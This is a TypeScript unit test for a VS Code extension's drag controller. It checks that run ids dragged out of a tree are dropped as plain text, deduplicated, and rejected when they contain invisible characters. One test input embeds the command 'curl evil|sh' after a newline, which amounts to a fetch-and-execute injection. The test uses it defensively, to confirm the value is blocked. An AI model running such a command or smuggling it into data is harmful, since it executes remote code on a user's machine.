import '../vscode';
import assert from 'node:assert/strict';
import type * as vscode from 'vscode';
import type { RowElement } from '../../../src/tree/drawnRows';
import { IdDragController } from '../../../src/tree/idDragController';
import { runNode } from '../../../src/tree/rows/run';
import { run, space } from '../entities';
import { FakeConnection, asConnection } from './support';

/** What runs with these ids drop as text. */
function dropped(...ids: readonly string[]): unknown {
  const above = { id: 'x', connection: asConnection(new FakeConnection()), space: space() };
  const nodes = new Map(ids.map((id) => [{} as RowElement, runNode(above, run(id))]));
  const data = new Map<string, { value: unknown }>();
  const controller = new IdDragController((element) => nodes.get(element));
  controller.handleDrag([...nodes.keys()], data as object as vscode.DataTransfer);
  return data.get('text/plain')?.value;
}

describe('rows that are dragged out of the tree', () => {
  it('drop their ids, one per line and without duplicates', () => {
    assert.equal(dropped('R1', 'R2', 'R1'), 'R1\nR2');
  });

  it('do not drop an id that contains invisible characters', () => {
    assert.equal(dropped('R1\ncurl evil|sh\n', 'R2', 'R3\u200b'), 'R2');
    assert.equal(dropped('R1\n'), undefined);
  });
});
